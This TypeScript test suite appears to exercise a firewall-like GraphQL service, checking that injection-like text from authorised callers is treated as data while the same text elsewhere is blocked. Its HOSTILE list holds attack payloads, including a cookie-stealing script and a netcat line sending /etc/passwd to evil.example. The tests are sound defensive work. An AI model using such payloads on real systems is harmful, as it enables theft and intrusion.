import * as fc from 'fast-check'
import t, { type Test } from 'tap'
import { setImmediate } from 'node:timers/promises'
import type { Detection } from '../../src/playbooks/shapes.ts'
import type { Answer } from '../../src/threads/shapes.ts'
import { connect } from '../transports/websocket/client.ts'
import { openApp, replace, spyOn, type TestApp } from './app.ts'
import { newAddress, newHolder } from './doors.ts'
import { openRaw, placesOf, STYLES, watchSettled, type Operation, type Raw, type Sent } from './own-data-doors.ts'

const PASSWORD = 'a long pass phrase of the contract suite'
/** Enough for all of them at once; passwords may be tried as often. */
const UNLIMITED = Object.fromEntries(['STRICT', 'STANDARD', 'RELAXED', 'SERVICE'].map((tier) =>
  [`RATE_LIMIT_${tier}`, '100000/60/0']))
/** Of several families, and of every grade. */
/* eslint-disable no-template-curly-in-string */
const HOSTILE = [
  "1' UNION SELECT password FROM users--",
  '<script>fetch("//evil.example/"+document.cookie)</script>',
  '; cat /etc/passwd | nc evil.example 4444',
  '../../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}{{config.__class__.__init__.__globals__}}',
  '../',
  'select * from'
]
const UNION = HOSTILE[0]!
/** Challenged, not refused. */
const MILD = 'select a from b where c'
const ADD = 'mutation ($reason: String!) { addDecision(scope: IP, value: "192.0.2.9", action: CHALLENGE, ttlSeconds: 60, reason: $reason) { id } }'

interface Caller { name: string, headers: Record<string, string> }

async function signIn (at: TestApp): Promise<Caller> {
  const query = 'mutation ($password: String!) { login(username: "admin", password: $password) { accessToken } }'
  const body = JSON.stringify({ query, variables: { password: PASSWORD } })
  const answer = await fetch(`${at.url}/graphql`, { method: 'POST', headers: { 'content-type': 'application/json' }, body })
  const { data } = await answer.json() as { data: { login: { accessToken: string } } }
  return { name: 'the administrator', headers: { authorization: `Bearer ${data.login.accessToken}` } }
}

async function withKey (at: TestApp, scopes: string[]): Promise<Caller> {
  const { key } = await newHolder(at.app, scopes)
  return { name: `a key of ${scopes.join()}`, headers: { 'x-api-key': key } }
}

const asJson = ({ query, variables }: Operation): string => JSON.stringify({ query, variables })

t.test('what authorised callers write is data', async (t) => {
  const at = await openApp(t, { ...UNLIMITED, JWT_EXPIRATION: '7d' })
  const { app, clock } = at
  const send = openRaw(t, at)
  let admin = await signIn(at)
  const key = await withKey(at, ['read', 'assess', 'decide', 'manage'])
  const told = spyOn(t, app.playbooks, 'respond') as unknown as Detection[][]
  const ask = async (caller: Caller, address: string, raw: Raw): Promise<Sent> =>
    await send({ ...raw, headers: { 'x-forwarded-for': address, ...caller.headers, ...raw.headers } })
  t.beforeEach(async () => {
    clock.advance(7_200_000)
    admin = await signIn(at)
    told.length = 0
  })

  /** Let through, with its full score on its receipt, and nothing held against who asked. */
  async function isHarmless (t: Test, { body, action, score, transaction }: Sent, name: string): Promise<void> {
    const receipt = await app.receipts.get(transaction.id)
    const { refusedBy, client } = transaction
    const seen = { action, refusedBy, held: app.limits.isHeld(client), blocked: body.includes('NEKO_ERR_BLOCKED') }
    t.strictSame(seen, { action: 'ALLOW', refusedBy: null, held: false, blocked: false }, name)
    t.match(receipt, { action: 'ALLOW', score: transaction.score!.value }, name)
    t.equal(score, Math.floor(receipt!.score), name)
    // Other people's requests, handed in to be assessed, are no evidence about who hands them in.
    if (/^body: what others sent/.test(receipt!.notInspected[0] ?? '')) t.match(name, /assess/)
    else {
      t.match(receipt!.notInspected, [/^values: scored/], name)
      t.ok(receipt!.factors.some((factor) => factor.name === 'payload' && factor.evidence.length > 0), name)
    }
    t.strictSame(told.splice(0), [], name)
  }

  const places = placesOf(app.graphqlEdge.schema)
    .filter(({ name }) => !/^Mutation\.(login|refreshToken)\(/.test(name))

  await t.test('in every argument of every field that takes a text, whoever is asked by whom', async (t) => {
    t.ok(places.length > 50, `${places.length} places`)
    let turn = 0
    for (const { name, operation } of places) {
      for (const style of STYLES) {
        const text = HOSTILE[turn++ % HOSTILE.length]!
        const caller = turn % 3 === 0 ? admin : key
        // Tries of a password end the session of who guesses on.
        if (name.includes('changePassword') && caller === admin) continue
        clock.advance(3_600_000 / 2)
        const sent = await ask(caller, newAddress(), { body: asJson(operation(style, text)) })
        await isHarmless(t, sent, `${name} as ${style} by ${caller.name}: ${text}`)
      }
    }
  })

  await t.test('over a real WebSocket too', async (t) => {
    const settled = watchSettled(t, app)
    const peer = await (await connect(t, at, { headers: { 'x-forwarded-for': newAddress() } })).init(key.headers)
    let turn = 0
    for (const { name, operation } of places) {
      const style = STYLES[turn % STYLES.length]!
      const text = HOSTILE[turn++ % 5]!
      clock.advance(3_600_000 / 2)
      const { query, variables } = operation(style, text)
      const before = spyOn(t, app.walk, 'settle')
      const { payload } = await peer.ask(query, variables)
      // Samples that it handed in are settled before it.
      const [{ id }] = before.find(([one]) => (one as { door: string }).door === 'websocket') as [{ id: string }]
      const { verdict, refusedBy, score, client } = await settled(id)
      t.strictSame(
        [verdict, refusedBy, app.limits.isHeld(client), score!.value >= 40 || name.includes('assess')],
        [{ action: 'ALLOW', simulated: false }, null, false, true],
        `${name} as ${style}: ${text} ${JSON.stringify(payload).slice(0, 200)}`
      )
      t.strictSame(told.splice(0), [])
    }
  })

  await t.test('one after the other from one address', async (t) => {
    for (const caller of [admin, key]) {
      const address = newAddress()
      for (let i = 0; i < 30; i++) {
        clock.advance(3_000 + 170 * (i % 7))
        const sent = await ask(caller, address, { body: asJson({ query: ADD, variables: { reason: `${i} ${HOSTILE[i % 7]}` } }) })
        await isHarmless(t, sent, `${caller.name}, the ${i}th`)
        t.match(JSON.parse(sent.body), { data: { addDecision: { id: String } } })
      }
      const { transaction } = await ask(caller, address, { body: asJson({ query: '{ me { tier } }', variables: {} }) })
      t.match(transaction.observation!.history, { challenged600s: 0, refused600s: 0, probes3600s: 0 })
    }
  })

  await t.test('and nothing else is: it is refused', async (t) => {
    const ALL = ['read', 'assess', 'decide', 'manage']
    const nobody: Caller = { name: 'nobody', headers: {} }
    const SEARCH = 'query Ask ($q: String) { threatActors(search: $q) { totalCount } }'
    const literal = (text: string): string => JSON.stringify(text)
    const search = (q: string, more: object = {}): string => JSON.stringify({ query: SEARCH, variables: { q }, ...more })
    const query = (text: string, more: object = {}): string => JSON.stringify({ query: text, ...more })
    const cases: Record<string, (text: string) => [string[] | null, Raw]> = {
      'an anonymous search': (text) => [null, { body: search(text) }],
      'an anonymous decision': (text) => [null, { body: query(ADD, { variables: { reason: text } }) }],
      'a mutation that the caller may not call': (text) => [['read'], { body: query(ADD, { variables: { reason: text } }) }],
      'a public field for a key without `read`': (text) => [['assess'], { body: search(text) }],
      'a field of another scope beside one that is covered': (text) => [['read'], {
        body: query('mutation ($r: String!) { logout addDecision(scope: IP, value: "192.0.2.9", action: BLOCK, reason: $r) { id } }', { variables: { r: text } })
      }],
      'a login': (text) => [ALL, { body: query('mutation ($u: String!) { login(username: $u, password: "x") { accessToken } }', { variables: { u: text } }) }],
      'a refresh': (text) => [ALL, { body: query('mutation ($u: String!) { refreshToken(refreshToken: $u) { accessToken } }', { variables: { u: text } }) }],
      'a decision beside a login': (text) => [ALL, {
        body: query('mutation ($reason: String!) { addDecision(scope: IP, value: "192.0.2.9", action: CHALLENGE, reason: $reason) { id } login(username: "a", password: "b") { accessToken } }', { variables: { reason: text } })
      }],
      'the introspection': (text) => [ALL, { body: query(`{ __type(name: ${literal(text)}) { name } }`) }],
      'the name of the operation': (text) => [ALL, { body: search('apt', { operationName: text }) }],
      extensions: (text) => [ALL, { body: search('apt', { extensions: { note: text } }) }],
      'another member of the body': (text) => [ALL, { body: search('apt', { note: text }) }],
      'a variable that nobody defined': (text) => [ALL, { body: query(SEARCH, { variables: { q: 'apt', spare: text } }) }],
      'a variable that nothing uses': (text) => [ALL, {
        body: query('query ($q: String, $spare: String) { threatActors(search: $q) { totalCount } }', { variables: { q: 'apt', spare: text } })
      }],
      'the default of a variable that nothing uses': (text) => [ALL, {
        body: query(`query ($q: String, $spare: String = ${literal(text)}) { threatActors(search: $q) { totalCount } }`, { variables: { q: 'apt' } })
      }],
      'an unknown field': (text) => [ALL, { body: query(`{ nowhere(q: ${literal(text)}) }`) }],
      'an unknown field beside a known one': (text) => [ALL, {
        body: query('query ($q: String) { threatActors(search: $q) { nowhere } }', { variables: { q: text } })
      }],
      'an unknown argument': (text) => [ALL, { body: query(`{ threatActors(where: ${literal(text)}) { totalCount } }`) }],
      'an unknown field of an input object': (text) => [ALL, {
        body: query(`mutation { addThreatActor(input: { name: "a", category: UNKNOWN, nowhere: ${literal(text)} }) { id } }`)
      }],
      'an unknown key of an input object in a variable': (text) => [ALL, {
        body: query('mutation ($input: ThreatActorInput!) { addThreatActor(input: $input) { id } }', { variables: { input: { name: 'a', nowhere: text } } })
      }],
      'a key': (text) => [ALL, {
        body: query('mutation ($input: ThreatActorInput!) { addThreatActor(input: $input) { id } }', { variables: { input: { name: 'a', [text.replaceAll('.', ' ')]: 1 } } })
      }],
      'an argument of a directive': (text) => [ALL, {
        body: query(`query ($q: String) { threatActors(search: $q) @include(if: ${literal(text)}) { totalCount } }`, { variables: { q: 'apt' } })
      }],
      'a variable that steers a directive': (text) => [ALL, {
        body: query('query ($q: String) { threatActors(search: $q) @include(if: $q) { totalCount } }', { variables: { q: text } })
      }],
      'an argument of an unknown directive': (text) => [ALL, {
        body: query(`query ($q: String) { threatActors(search: $q) @nowhere(a: ${literal(text)}) { totalCount } }`, { variables: { q: 'apt' } })
      }],
      'a comment': (text) => [ALL, { body: query(`query ($q: String) { threatActors(search: $q) { totalCount } } # ${text}`, { variables: { q: 'apt' } }) }],
      'two operations': (text) => [ALL, {
        body: query(`${SEARCH} query Other { health { status } }`, { operationName: 'Ask', variables: { q: text } })
      }],
      'a definition of a type': (text) => [ALL, { body: query(`${SEARCH} scalar Other`, { variables: { q: text } }) }],
      'a document that does not parse': (text) => [ALL, { body: query(`${SEARCH} }`, { variables: { q: text } }) }],
      'a batch': (text) => [ALL, { body: `[${search(text)}]` }],
      'a key that stands twice': (text) => [ALL, { body: `{"variables":{"q":${literal(text)}},${search('apt').slice(1)}` }],
      'a header': (text) => [ALL, { body: search('apt'), headers: { 'x-note': text } }],
      'a cookie': (text) => [ALL, { body: search('apt'), headers: { cookie: `note=${encodeURIComponent(text)}` } }],
      'the URL of a POST': (text) => [ALL, { body: search('apt'), path: `/graphql?note=${encodeURIComponent(text)}` }],
      'a GET': (text) => [ALL, {
        method: 'GET',
        path: `/graphql?query=${encodeURIComponent(SEARCH)}&variables=${encodeURIComponent(JSON.stringify({ q: text }))}`
      }],
      'another route': (text) => [ALL, { body: search(text), path: '/nowhere/graphql' }],
      'another type': (text) => [ALL, { body: search(text), headers: { 'content-type': 'text/plain' } }],
      'a type that a gateway may send': (text) => [ALL, { body: search(text), headers: { 'content-type': 'application/graphql+json' } }],
      'a byte order mark': (text) => [ALL, { body: `\uFEFF${search(text)}` }],
      'another charset': (text) => [ALL, { body: search(text), headers: { 'content-type': 'application/json; charset=utf-16' } }]
    }
    const BESIDE = ['a header', 'the URL of a POST', 'another route']
    for (const [name, made] of Object.entries(cases)) {
      for (const text of [HOSTILE[0]!, HOSTILE[4]!]) {
        clock.advance(1_800_000)
        const [scopes, raw] = made(text)
        // Another caller each time: the block that some bring must not answer the next.
        const caller = scopes === null ? nobody : await withKey(at, scopes)
        const { status, transaction } = await ask(caller, newAddress(), raw)
        t.match(transaction, { refusedBy: 'score', scoreWithoutData: null, verdict: { action: 'BLOCK' } }, `${name}: ${text}`)
        if (caller === nobody || BESIDE.includes(name)) {
          t.match([status, told.splice(0)], [403, [[{ refused: true, action: 'BLOCK' }]]], name)
          continue
        }
        const next = await ask(caller, newAddress(), { body: query('{ me { tier } }') })
        t.strictSame([status, told.splice(0), next.status], [403, [], 200], `${name}: refused, and nothing more`)
        t.match(next.transaction.observation!.history, { refused600s: 0, challenged600s: 0, probes3600s: 0 }, name)
      }
    }
  })

  await t.test('what is challenged in an operation holds nobody, and what is refused closes no socket', async (t) => {
    const slip = (text: string): string => `{ threatActors(search: "${text}") { nowhere } }`
    const caller = await withKey(at, ['read'])
    const seen = []
    for (let i = 0; i < 4; i++) {
      clock.advance(5_000)
      const { transaction } = await ask(caller, newAddress(), { body: JSON.stringify({ query: slip(`${MILD}${i}`) }) })
      seen.push([transaction.verdict!.action, app.limits.isHeld(transaction.client)])
    }
    t.strictSame([seen, told.splice(0)], [Array(4).fill(['CHALLENGE', false]), []])
    const peer = await (await connect(t, at, { headers: { 'x-forwarded-for': newAddress() } })).init(caller.headers)
    for (let i = 0; i < 4; i++) t.match((await peer.ask(slip(UNION), {})).payload, [{ extensions: { code: 'NEKO_ERR_BLOCKED' } }])
    t.strictSame(told, [])
    t.match((await peer.ask('{ me { tier } }', {})).payload, { data: { me: { tier: String } } })
  })

  await t.test('structure counts, whoever wrote it', async (t) => {
    const flood = `{ ${Array.from({ length: 110 }, (_, i) => `a${i}: me { tier }`).join(' ')} threatActors(search: "${UNION}") { totalCount } }`
    const holder = await withKey(at, ['read'])
    const { status, transaction } = await ask(holder, newAddress(), { body: JSON.stringify({ query: flood }) })
    t.match([status, transaction.verdict], [403, { action: 'BLOCK' }])
    t.ok(transaction.scoreWithoutData!.value < transaction.score!.value)
    t.strictSame(told, [], 'it refuses, and shuts nobody out')
  })

  await t.test('in front of another application nothing is', async (t) => {
    const raw = { query: ADD, variables: { reason: UNION } }
    const headers = Object.entries({ ...key.headers, 'content-type': 'application/json' })
    const sample = { method: 'POST', url: '/graphql', headers, body: JSON.stringify(raw), ip: newAddress() }
    const [assessment] = await app.assess([sample] as never, { acts: false, submitter: 'key:tests' })
    t.match(assessment, { action: 'BLOCK' })
  })

  await t.test('fragments and subfields are of the operation, and are looked at like it', async (t) => {
    const fields = `fragment F on Mutation { addDecision(scope: IP, value: "192.0.2.9", action: CHALLENGE, ttlSeconds: 60, reason: "${UNION}") { id } }`
    const body = JSON.stringify({ query: `mutation { ...F ... on Mutation { logout } } ${fields}` })
    await isHarmless(t, await ask(key, newAddress(), { body }), 'by whom it is covered')
    const { transaction } = await ask(await withKey(at, ['read']), newAddress(), { body })
    t.match(transaction, { refusedBy: 'score', scoreWithoutData: null }, 'by whom it is not')
  })

  await t.test('a document without its JSON is read too', async (t) => {
    const body = `mutation { addDecision(scope: IP, value: "192.0.2.9", action: CHALLENGE, ttlSeconds: 60, reason: "${UNION}") { id } }`
    const headers = { 'content-type': 'application/graphql' }
    await isHarmless(t, await ask(key, newAddress(), { body, headers }), 'application/graphql')
  })

  await t.test('a full score that comes after its answer is not held against them either', async (t) => {
    const own = app.threads.ask
    replace(t, app.threads, 'ask', async (observation, asked): Promise<Answer> => {
      const { score } = await own(observation, asked)
      const hurried = { ...score, value: 0, factors: [], grade: null, degraded: true }
      return { score: hurried, unjudged: null, later: Promise.resolve({ score, exhausts: false }) }
    })
    const body = JSON.stringify({ query: ADD, variables: { reason: UNION } })
    const learnt = spyOn(t, app.clients, 'settle')
    const comeLater = (): unknown[] => learnt.splice(0).filter(([outcome]) => (outcome as { action: string }).action === 'BLOCK')
    await ask(key, newAddress(), { body })
    await setImmediate()
    t.strictSame([told.splice(0), comeLater()], [[], []])
    await ask({ name: 'nobody', headers: {} }, newAddress(), { body })
    await setImmediate()
    t.match([told.splice(0), comeLater()], [[[{ refused: true }]], [[{ status: 403 }]]], 'but against all others')
  })

  await t.test('no body makes the reader of data throw, and none without our fields is data', async (t) => {
    const { eraseData } = app.graphqlEdge
    const scopes = ['read', 'assess', 'decide', 'manage'] as const
    const pieces = ['{', '}', '(', '"', '"""', '$q', ':', 'query', 'fragment F on Mutation', '...F', 'logout', '@skip', '[', '\\', '#', UNION]
    const piece = fc.array(fc.oneof(fc.constantFrom(...pieces), fc.string()), { maxLength: 30 }).map((all) => all.join(' '))
    fc.assert(fc.property(piece, fc.json({ maxDepth: 40 }), (text, variables) => {
      const bodies = [text, JSON.stringify({ query: text }), `{"query":${JSON.stringify(ADD)},"variables":${variables}}`]
      for (const body of bodies) for (const type of ['json', 'graphql'] as const) eraseData({ text: body, type }, scopes)
      return eraseData({ text: JSON.stringify({ query: `{ nowhere(a: "${UNION}") } ${text}` }), type: 'json' }, scopes) === null
    }), { numRuns: 300, seed: 9 })
    const deep = `${'['.repeat(30_000)}${']'.repeat(30_000)}`
    for (const body of [`{"query":${JSON.stringify(ADD)},"variables":{"reason":${deep}}}`, deep, '{"query":1}', 'null']) {
      t.equal(eraseData({ text: body, type: 'json' }, scopes), null)
    }
    t.equal(eraseData({ text: '{'.repeat(60_000), type: 'graphql' }, scopes), null)
  })
})
